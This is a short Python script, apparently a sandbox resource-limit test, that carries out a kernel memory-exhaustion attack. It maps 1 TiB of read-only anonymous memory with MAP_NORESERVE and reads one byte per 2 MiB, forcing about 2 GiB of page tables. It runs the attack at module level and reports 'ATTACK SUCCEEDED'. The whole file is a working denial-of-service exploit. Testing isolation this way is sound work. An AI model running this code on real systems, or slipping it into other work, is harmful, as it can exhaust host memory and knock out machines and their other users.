"""Goal: fill memory with page tables alone: one page read in every stretch of 2 MiB of very large mappings.

Without a sandbox: unsafe
"""

import mmap

TIB = 1


def attack():
    # Each such page takes one of the kernel's, and pages that were only read are all the same one.
    MAP_NORESERVE = 0x4000
    kept = []
    for _ in range(TIB * 16):
        try:
            flags = mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | MAP_NORESERVE
            kept.append(mmap.mmap(-1, 1 << 36, flags=flags, prot=mmap.PROT_READ))
        except OSError as error:
            raise RuntimeError(f"stopped by: {error!r}")
        for start in range(0, 1 << 36, 2 << 20):
            kept[-1][start]
    raise RuntimeError(f"ATTACK SUCCEEDED: {TIB * 2048} MiB of page tables")


attack()
